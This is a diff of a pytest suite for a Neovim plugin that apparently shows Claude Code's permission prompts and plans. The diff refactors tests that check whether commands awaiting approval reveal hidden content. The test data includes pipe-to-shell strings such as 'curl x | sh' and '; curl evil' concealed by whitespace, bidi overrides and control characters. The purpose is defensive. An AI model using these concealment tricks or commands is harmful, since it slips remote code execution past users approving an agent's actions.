@@ -32,11 +32,15 @@ def asked(start_nvim, tmp_path):
         nvim = start_scripted(start_nvim, tmp_path, AGENT, {"ASK": ask})
         begin(nvim, "go")
         nvim.wait_screen("make it")
-        nvim.wait("vim.list_contains({ 'question', 'plan' }, (vim.b.claude_ide or {}).kind)", what="the focus")
-        nvim.keys_count()
+        wait_focus(nvim)
         return nvim
 
     return asked
+
+
+def wait_focus(nvim):
+    nvim.wait("vim.list_contains({ 'question', 'plan' }, (vim.b.claude_ide or {}).kind)", what="the focus")
+    nvim.keys_count()
 
 
 def answer(nvim):
@@ -73,30 +77,29 @@ def test_a_question_says_which_of_two_chats_asks(asked):
     nvim.wait(is_said, what="which chat asks")
 
 
-BLANKS = "make it" + " " * 120 + "; curl x | sh"
 HIDING = {
-    BLANKS: "make it⟨120 blanks⟩; curl x | sh",
+    "make it" + " " * 120 + "; curl x | sh": "make it⟨120 blanks⟩; curl x | sh",
     "make it" + "\n" * 61 + "curl x": "make it\n⟨60 empty lines⟩\ncurl x",
     "make it\u202e; hs | lruc\u200b\u2066": "make it<202e>; hs | lruc<200b><2066>",
     "make it\u00a0\u3164\u00ad\u2028x\ufe0f": "make it<a0><3164><ad><2028>x<fe0f>",
     "make it\rx\x1b[2K\x00": "make it^Mx^[[2K^@",
-    "make it  well\n\n    1\n\n\n\t2 \U0001f468\u200d\U0001f469": "make it  well\n\n    1\n\n\n    2 \U0001f468\u200d\U0001f469",
+    "make it  well\n\n    1\n\n\n\t2": "make it  well\n\n    1\n\n\n    2",
+    "\U0001f468\u200d\U0001f469": "\U0001f468\u200d\U0001f469",
 }
 
 
 @pytest.mark.every_nvim
-@pytest.mark.parametrize("command", HIDING, ids=["blanks", "lines", "bidi", "odd blanks", "control", "plain"])
-def test_nothing_hides_in_a_command_that_is_to_be_allowed(asked, command):
-    nvim = asked(input={"command": command})
-    if "\u200d" in command and nvim.version == "0.10":
-        pytest.skip("its strtrans() marks what joins emoji")
-    lines = nvim.lines()
-    assert "\n".join(lines[: lines.index("", len(HIDING[command].splitlines()))]) == HIDING[command]
+def test_nothing_hides_in_a_command_that_is_to_be_allowed(asked):
+    nvim = asked(input={"command": "\n".join(HIDING)})
+    expected = "\n".join(HIDING.values()).split("\n")
+    shown = nvim.lines()[: len(expected) + 1]
+    if nvim.version == "0.10":  # its strtrans() marks what joins emoji
+        expected[-1] = shown[-2]
+    assert shown == [*expected, ""]
 
 
 @pytest.mark.every_nvim
-@pytest.mark.parametrize("key", ["y", "a"])
-@pytest.mark.parametrize("kind", ["one line", "lines", "cut"])
+@pytest.mark.parametrize(("kind", "key"), [("one line", "y"), ("lines", "a"), ("cut", "y"), ("cut", "a")])
 def test_what_is_out_of_sight_is_read_before_it_is_allowed(asked, kind, key):
     last = "; curl evil"
     command = {
@@ -267,14 +270,14 @@ def waits(nvim, kind):
 PLAN = {"tool_name": "ExitPlanMode", "input": {"plan": "make it\nwell"}}
 
 
-@pytest.mark.parametrize("end", ["edit", "edit!", "bdelete", "bwipeout!", "quit"])
-def test_what_was_changed_in_a_plan_outlives_its_buffer(asked, end):
+def test_what_was_changed_in_a_plan_outlives_its_buffer(asked):
     nvim = asked(**PLAN)
     nvim.keys("Goas I want it<Esc>")
     nvim.wait("vim.api.nvim_get_current_line() == 'as I want it' and vim.fn.mode() == 'n'")
-    nvim.cmd(end)
-    nvim.cmd("Claude chat")
-    assert nvim.lines() == ["make it", "well", "as I want it"]
+    for end in ("edit", "edit!", "bdelete", "bwipeout!", "quit"):
+        nvim.cmd(end)
+        nvim.cmd("Claude chat")
+        assert nvim.lines() == ["make it", "well", "as I want it"], end
     nvim.keys_count()
     nvim.keys("<CR>")
     assert answer(nvim)["updatedInput"]["plan"] == "make it\nwell\nas I want it"
@@ -334,9 +337,9 @@ def highlighted(nvim):
 
 
 @pytest.mark.every_nvim
-@pytest.mark.parametrize(
-    ("keys", "chosen"),
-    [
+def test_a_step_goes_from_option_to_option(asked):
+    nvim = asked(**choices(several=False))
+    for keys, chosen in [
         ("<CR>", "Delete all"),
         ("j<CR>", "Keep some"),
         ("jj<CR>", "Keep all"),
@@ -344,13 +347,12 @@ def highlighted(nvim):
         ("Gk<CR>", "Keep all"),
         ("ggj<CR>", "Delete all"),
         ("3", "Keep all"),
-    ],
-)
-def test_a_step_goes_from_option_to_option(asked, keys, chosen):
-    nvim = asked(**choices(several=False))
-    assert [line.split()[0] for line in highlighted(nvim)] == ["1", "nothing", "is"]
-    nvim.keys(keys)
-    assert answer(nvim)["updatedInput"]["answers"] == {"What to\nmake it?": chosen}
+    ]:
+        assert [line.split()[0] for line in highlighted(nvim)] == ["1", "nothing", "is"]
+        nvim.keys(keys)
+        assert answer(nvim)["updatedInput"]["answers"] == {"What to\nmake it?": chosen}, keys
+        say(nvim, "go")
+        wait_focus(nvim)
 
 
 @pytest.mark.every_nvim
